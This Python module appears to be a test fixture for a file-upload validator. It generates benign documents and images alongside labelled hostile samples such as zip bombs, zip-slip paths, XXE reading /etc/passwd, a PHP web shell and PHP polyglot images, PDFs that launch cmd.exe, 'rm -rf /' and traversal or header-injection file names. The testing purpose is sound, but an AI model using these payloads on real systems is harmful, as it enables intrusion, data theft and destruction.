"""Files made by code: good ones that must be taken as they are, and hostile ones that must not."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
MACRO_TYPES = CONTENT_TYPES.replace(
    b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# -- pictures -------------------------------------------------------------------------------------


def picture(kind: str, size: tuple[int, int] = (320, 200), **options: object) -> bytes:
    out = io.BytesIO()
    drawn = Image.radial_gradient("L").resize(size).convert("RGB")
    drawn.save(out, kind, **options)
    return out.getvalue()


def pages_of_tiff(count: int, **options: object) -> bytes:
    out = io.BytesIO()
    first, *others = [Image.new("RGB", (80, 60), (n * 20, 9, 9)) for n in range(count)]
    first.save(out, "TIFF", save_all=True, append_images=others, **options)
    return out.getvalue()


def two_in_a_jpeg() -> bytes:
    """As phones write it: a second picture behind the first."""
    out = io.BytesIO()
    first, second = Image.new("RGB", (64, 64), "red"), Image.new("RGB", (32, 32))
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_flood() -> bytes:
    """65,500 pixels in both directions in a few hundred bytes."""
    head = struct.pack(">IIBBBBB", 65_500, 65_500, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_flood() -> bytes:
    raw = bytearray(picture("JPEG", (16, 16)))
    at = raw.index(b"\xff\xc0") + 5
    raw[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(raw)


def tiff_flood() -> bytes:
    entries = [(256, 4, 1, 65_500), (257, 4, 1, 65_500), (258, 3, 1, 8), (259, 3, 1, 1),
               (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 65_500),
               (279, 4, 1, 8)]  # fmt: skip
    table = struct.pack("<H", len(entries))
    table += b"".join(struct.pack("<HHII", *entry) for entry in entries) + bytes(4)
    return struct.pack("<4sI", b"II*\0", 8) + table


def box(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def heic(brand: bytes = b"heic") -> bytes:
    return (
        box(b"ftyp", brand + bytes(4) + b"mif1heic")
        + box(b"meta", bytes(200))
        + box(b"mdat", bytes(range(256)) * 8)
    )


def movie(brand: bytes = b"isom") -> bytes:
    return box(b"ftyp", brand + bytes(4) + b"isomiso2") + box(b"moov", bytes(64)) + box(b"mdat")


# -- PDF ------------------------------------------------------------------------------------------


def pdf(pages: int = 1, change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _root(**entries: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        for name, value in entries.items():
            writer.root_object[NameObject(f"/{name}")] = value  # type: ignore[index]

    return change


def action(kind: str, **more: str) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    for name, value in more.items():
        found[NameObject(f"/{name}")] = TextStringObject(value)
    return found


def named(script: DictionaryObject) -> DictionaryObject:
    """A tree of names that leads to a script."""
    leaf = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    return DictionaryObject({NameObject("/JavaScript"): leaf})


def obscured_script() -> bytes:
    """The name of the key is written with codes, as readers allow."""
    raw = pdf(change=_root(OpenAction=action("JavaScript", JS="app.alert(1)")))
    return raw.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4aS")


def pdf_of_plain_actions() -> bytes:
    """Opening at a page and a link to the web are nothing unusual."""
    return pdf(2, _root(OpenAction=action("GoTo", D="1"), AA=action("URI", URI="https://a.cn")))


def archival_pdf() -> bytes:
    """With the metadata in which a PDF/A says what it is."""
    xmp = b"""<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about=""
xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" pdfaid:part="2" pdfaid:conformance="B"/></rdf:RDF>
</x:xmpmeta><?xpacket end="w"?>"""

    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = xmp
        stream[NameObject("/Type")] = NameObject("/Metadata")
        writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)

    return pdf(change=change)


def large_pdf(megabytes: int) -> bytes:
    """Scans make a PDF large; noise does not compress."""
    noise = random.Random(1).randbytes(1024 * 1024)

    def fill(writer: PdfWriter) -> None:
        for _ in range(megabytes):
            stream = StreamObject()
            stream._data = noise
            writer._add_object(stream)

    return pdf(1, fill)


def locked_pdf() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("1234", algorithm="RC4-128"))


# -- documents in ZIP -----------------------------------------------------------------------------


def zipped(parts: dict[str, bytes], **last: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for info in last.values():
            assert isinstance(info, zipfile.ZipInfo)
            archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def docx(**more: bytes) -> bytes:
    extra = {name.replace("__", "/"): data for name, data in more.items()}
    return zipped(_docx(extra))


def _docx(extra: dict[str, bytes]) -> dict[str, bytes]:
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": "<w:document>借款合同</w:document>".encode(),
    }
    return {**parts, **extra}


def xlsx(extra: dict[str, bytes] | None = None) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}
    return zipped({**parts, **(extra or {})})


def ofd() -> bytes:
    return zipped({"OFD.xml": b'<?xml version="1.0"?><ofd:OFD/>', "Doc_0/Document.xml": b"<a/>"})


@cache
def bomb() -> bytes:
    """Ten thousand times its size."""
    return zipped(_docx({"word/media/image1.bmp": bytes(300 * 1024 * 1024)}))


def lying_bomb() -> bytes:
    """Says that it is small."""
    raw = bytearray(zipped(_docx({"word/media/a.bmp": bytes(30 * 1024 * 1024)})))
    honest = struct.pack("<I", 30 * 1024 * 1024)
    return bytes(raw).replace(honest, struct.pack("<I", 1000))


def spoilt_docx() -> bytes:
    """One byte of a picture inside is another: its checksum says so."""
    raw = bytearray(zipped(_docx({"word/media/a.png": picture("PNG")})))
    raw[len(raw) // 2] ^= 0xFF
    return bytes(raw)


def symlinked() -> bytes:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    return zipped(_docx({}), link=info)


OUTSIDE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://a.example/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)
LINK = OUTSIDE.replace(b"attachedTemplate", b"hyperlink")
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


# -- OLE ------------------------------------------------------------------------------------------


def ole(*names: str, flags: int = 0) -> bytes:
    """A file system in a file with these streams; the first one has the content."""
    content = bytearray(4096)
    content[0:2], content[10:12] = b"\xec\xa5", struct.pack("<H", flags)
    entries = [_entry("Root Entry", 5, 0xFFFFFFFE, 0)]
    entries += [_entry(name, 2, 2, 4096) for name in names]
    while len(entries) % 4:
        entries.append(bytes(128))
    folders = len(entries) // 4
    first = 1 + folders
    entries[1] = _entry(names[0], 2, first, 4096)
    table = [0xFFFFFFFD, *range(2, 1 + folders), 0xFFFFFFFE, *range(first + 1, first + 8),
             0xFFFFFFFE]  # fmt: skip
    table += [0xFFFFFFFF] * (128 - len(table))
    head = struct.pack(
        "<8s16sHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 62, 3, 0xFFFE,
        9, 6, bytes(6), 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0,
    )  # fmt: skip
    head += struct.pack("<108I", *[0xFFFFFFFF] * 108)
    return head + struct.pack("<128I", *table) + b"".join(entries) + bytes(content)


def _entry(name: str, kind: int, start: int, size: int) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0"
    return (
        raw.ljust(64, b"\0")
        + struct.pack("<HBB", len(raw), kind, 1)
        + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


# -- the corpus -----------------------------------------------------------------------------------

Made = Callable[[], bytes]
GOOD: dict[str, tuple[str, int | None, Made]] = {
    "PDF": ("pdf", 1, pdf),
    "PDF of 12 pages": ("pdf", 12, lambda: pdf(12)),
    "PDF/A": ("pdf", 1, archival_pdf),
    "PDF with links": ("pdf", 2, pdf_of_plain_actions),
    "PDF of 190 MB": ("pdf", 1, lambda: large_pdf(190)),
    "JPEG": ("jpeg", 1, lambda: picture("JPEG")),
    "JPEG of a phone": ("jpeg", 1, two_in_a_jpeg),
    "JPEG with a movie behind": ("jpeg", 1, lambda: picture("JPEG") + movie(b"mp42")),
    "JPEG of 48 million pixels": ("jpeg", 1, lambda: picture("JPEG", (8000, 6000))),
    "progressive JPEG": ("jpeg", 1, lambda: picture("JPEG", progressive=True)),
    "PNG": ("png", 1, lambda: picture("PNG")),
    "TIFF": ("tiff", 1, lambda: pages_of_tiff(1)),
    "TIFF of 5 pages": ("tiff", 5, lambda: pages_of_tiff(5)),
    "packed TIFF": ("tiff", 3, lambda: pages_of_tiff(3, compression="tiff_lzw")),
    "HEIC": ("heic", 1, heic),
    "HEIC of another brand": ("heic", 1, lambda: heic(b"mif1")),
    "WebP": ("webp", 1, lambda: picture("WEBP")),
    "lossless WebP": ("webp", 1, lambda: picture("WEBP", lossless=True)),
    "Word": ("docx", None, docx),
    "Word with a link to the web": ("docx", None, lambda: zipped(
        _docx({"word/_rels/document.xml.rels": LINK}))),
    "Word with a picture": ("docx", None, lambda: zipped(
        _docx({"word/media/image1.png": picture("PNG")}))),
    "Word with a formula": ("docx", None, lambda: zipped(
        _docx({"word/embeddings/oleObject1.bin": ole("Equation Native")}))),
    "Excel": ("xlsx", None, xlsx),
    "OFD": ("ofd", None, ofd),
    "old Word": ("doc", None, lambda: ole("WordDocument", "1Table")),
    "WPS": ("doc", None, lambda: ole("WordDocument", "WpsCustomData")),
    "text": ("txt", None, lambda: "今借到人民币十万元。\r\n".encode()),
    "text in GB 18030": ("txt", None, lambda: "今借到人民币十万元。".encode("gb18030")),
    "text in UTF-16": ("txt", None, lambda: "今借到人民币十万元。".encode("utf-16")),
    "text with a mark": ("txt", None, lambda: "今借到".encode("utf-8-sig")),
    "movie": ("mp4", None, movie),
    "movie of a phone": ("mp4", None, lambda: movie(b"qt  ")),
    "recording": ("m4a", None, lambda: movie(b"M4A ")),
    "MP3": ("mp3", None, lambda: b"ID3\x04\0\0\0\0\0\x0a" + bytes(10) + b"\xff\xfb\x90\0" * 99),
}  # fmt: skip

HOSTILE: dict[str, tuple[str, Made]] = {
    "nothing": ("empty", bytes),
    "one byte": ("unknown", lambda: b"\0"),
    "noise": ("unknown", lambda: bytes(range(256)) * 40),
    "EICAR": ("test_virus", lambda: EICAR),
    "EICAR in Word": ("test_virus", lambda: zipped(_docx({"word/media/a.png": EICAR}))),
    "zip bomb": ("bomb", bomb),
    "zip bomb that lies": ("damaged", lying_bomb),
    "many parts": ("bomb", lambda: zipped(_docx({f"word/{n}.xml": b"" for n in range(20_001)}))),
    "plain zip": ("archive", lambda: zipped({"a.txt": b"a"})),
    "nested zip": ("archive", lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c": b""})})})),
    "zip in Word": ("archive", lambda: zipped(_docx({"word/media/a.bin": zipped({"a": b""})}))),
    "workbook in Word": ("embedded", lambda: zipped(_docx({"word/embeddings/a.xlsx": xlsx()}))),
    "empty zip": ("archive", lambda: zipped({})),
    "zip slip": ("outside_path", lambda: zipped(_docx({"../../etc/cron.d/a": b"x"}))),
    "zip slip by backslash": ("outside_path", lambda: zipped(_docx({"..\\..\\a": b"x"}))),
    "absolute path in zip": ("outside_path", lambda: zipped(_docx({"/etc/passwd": b"x"}))),
    "drive in zip": ("outside_path", lambda: zipped(_docx({"C:/a": b"x"}))),
    "link in zip": ("outside_path", symlinked),
    "docm": ("macros", lambda: zipped(_docx({"word/vbaProject.bin": ole("VBA")}))),
    "docm by its type": ("macros", lambda: zipped(_docx({"[Content_Types].xml": MACRO_TYPES}))),
    "xlsm": ("macros", lambda: xlsx({"xl/vbaProject.bin": b"x"})),
    "old macros in xlsx": ("macros", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "program control in Word": ("macros", lambda: zipped(_docx({"word/activeX/a.bin": b"x"}))),
    "XXE in Word": ("entities", lambda: zipped(_docx({"word/document.xml": XXE}))),
    "XXE in UTF-16": ("entities", lambda: zipped(
        _docx({"word/document.xml": XXE.decode().encode("utf-16")}))),
    "template from outside": ("outside_link", lambda: zipped(
        _docx({"word/_rels/settings.xml.rels": OUTSIDE}))),
    "file in an object": ("embedded", lambda: zipped(
        _docx({"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}))),
    "program in Word": ("program", lambda: zipped(_docx({"word/media/a.png": b"MZ" + bytes(99)}))),
    "page in Word": ("page_of_code", lambda: zipped(_docx({"word/a.htm": b"<html><script>"}))),
    "cut Word": ("damaged", lambda: docx()[:-40]),
    "spoilt Word": ("damaged", spoilt_docx),
    "OLE with macros": ("macros", lambda: ole("WordDocument", "Macros", "VBA")),
    "OLE with a file": ("embedded", lambda: ole("WordDocument", "\x01Ole10Native")),
    "OLE with a password": ("locked", lambda: ole("EncryptedPackage", "EncryptionInfo")),
    "old Word with a password": ("locked", lambda: ole("WordDocument", flags=0x0100)),
    "old Excel": ("old_workbook", lambda: ole("Workbook")),
    "installer": ("unknown", lambda: ole("Property", "File")),
    "cut OLE": ("damaged", lambda: ole("WordDocument")[:1500]),
    "OLE of nothing": ("damaged", lambda: ole("WordDocument")[:8] + bytes(600)),
    "PDF with a script": ("script", lambda: pdf(
        change=_root(OpenAction=action("JavaScript", JS="app.alert(1)")))),
    "PDF with a named script": ("script", lambda: pdf(
        change=_root(Names=named(action("JavaScript", JS="app.alert(1)"))))),
    "PDF with an obscured script": ("script", obscured_script),
    "PDF that starts programs": ("launch", lambda: pdf(
        change=_root(OpenAction=action("Launch", F="cmd.exe")))),
    "PDF that sends": ("launch", lambda: pdf(
        change=_root(OpenAction=action("SubmitForm", F="https://a.example")))),
    "PDF with a file inside": ("embedded", lambda: pdf(
        change=lambda w: w.add_attachment("a.exe", b"MZ"))),
    "PDF with a password": ("locked", locked_pdf),
    "PDF of too many pages": ("too_many_pages", lambda: pdf(5_001)),
    "cut PDF": ("damaged", lambda: pdf()[:-60]),
    "PDF of nothing": ("damaged", lambda: b"%PDF-1.7\n%%EOF\n"),
    "PDF of nonsense": ("damaged", lambda: b"%PDF-1.7\n" + b"1 0 obj <<" * 99 + b"%%EOF\n"),
    "PDF and archive": ("two_in_one", lambda: pdf() + zipped({"a.class": b"\xca\xfe\xba\xbe"})),
    "HTML as PDF": ("page_of_code", lambda: b"<!DOCTYPE html><html>%PDF-1.7</html>"),
    "HTML before PDF": ("page_of_code", lambda: b"<script>a()</script>" + pdf()),
    "HTML": ("page_of_code", lambda: b"\xef\xbb\xbf \n<html><body>"),
    "HTML in UTF-16": ("page_of_code", lambda: "<html>".encode("utf-16")),
    "HTML in text": ("page_of_code", lambda: b"hello <script>alert(1)</script>"),
    "SVG": ("page_of_code", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
    "SVG as XML": ("page_of_code", lambda: b'<?xml version="1.0"?><svg onload="a()"/>'),
    "PHP": ("page_of_code", lambda: b"<?php system($_GET['a']);"),
    "GIF": ("unknown", lambda: picture("GIF")),
    "GIFAR": ("unknown", lambda: picture("GIF") + zipped({"a.class": b"x"})),
    "JPEG and archive": ("two_in_one", lambda: picture("JPEG") + zipped({"a.class": b"x"})),
    "PNG and archive": ("two_in_one", lambda: picture("PNG") + zipped({"a.class": b"x"})),
    "JPEG and PHP": ("two_in_one", lambda: picture("JPEG") + b"<?php system('id'); ?>"),
    "JPEG, PHP, end": ("two_in_one", lambda: picture("JPEG") + b"<?php a(); ?>\xff\xd9"),
    "JPEG and program": ("two_in_one", lambda: picture("JPEG") + b"\x7fELF" + bytes(99)),
    "PNG and PHP": ("two_in_one", lambda: picture("PNG") + b"<?php a(); ?>"),
    "WebP and more": ("two_in_one", lambda: picture("WEBP") + b"<?php a(); ?>"),
    "flood of PNG": ("too_many_pixels", png_flood),
    "flood of JPEG": ("too_many_pixels", jpeg_flood),
    "flood of TIFF": ("too_many_pixels", tiff_flood),
    "cut JPEG": ("damaged", lambda: picture("JPEG")[:-900]),
    "cut PNG": ("damaged", lambda: picture("PNG")[:-900]),
    "spoilt PNG": ("damaged", lambda: picture("PNG")[:100] + b"xx" + picture("PNG")[102:]),
    "cut WebP": ("damaged", lambda: picture("WEBP")[:-100]),
    "cut TIFF": ("damaged", lambda: pages_of_tiff(2)[:-8_000]),
    "cut HEIC": ("damaged", lambda: heic()[:-100]),
    "HEIC of nothing": ("damaged", lambda: box(b"ftyp", b"heic" + bytes(4))),
    "unknown brand": ("unknown", lambda: movie(b"evil")),
    "MP3 of nothing": ("damaged", lambda: b"ID3\x04\0\0\0\0\0\x0a" + bytes(200)),
    "Windows program": ("program", lambda: b"MZ" + bytes(300)),
    "Linux program": ("program", lambda: b"\x7fELF" + bytes(300)),
    "shell script": ("program", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "class": ("program", lambda: b"\xca\xfe\xba\xbe" + bytes(99)),
    "shortcut": ("program", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(99)),
    "RAR": ("archive", lambda: b"Rar!\x1a\x07\0" + bytes(99)),
    "7z": ("archive", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99)),
    "gzip": ("archive", lambda: b"\x1f\x8b\x08" + bytes(99)),
}  # fmt: skip

NAMES = {
    "借条.jpg": "借条.jpg",
    "../../etc/passwd": "passwd",
    "..\\..\\win.ini": "win.ini",
    "a\0b.pdf": "ab.pdf",
    "CON": "_CON",
    "con.pdf": "_con.pdf",
    "长" * 200 + ".pdf": None,
    "invoice\u202efdp.exe": "invoicefdp.exe",
    "合同.pdf.": "合同.pdf",
    "合同.pdf ": "合同.pdf",
    "-rf.pdf": "rf.pdf",
    "..": "file",
    "": "file",
    "\u200b": "file",
    "微笑😀.png": "微笑😀.png",
    "家庭👨\u200d👩\u200d👧.jpg": "家庭👨\u200d👩\u200d👧.jpg",
    "a\r\nSet-Cookie: b.pdf": "aSet-Cookie_ b.pdf",
    'a"b.pdf': "a_b.pdf",
    "C:\\fakepath\\照片.jpg": "照片.jpg",
}
"""What a file calls itself, and what is shown; None: only within the limits."""
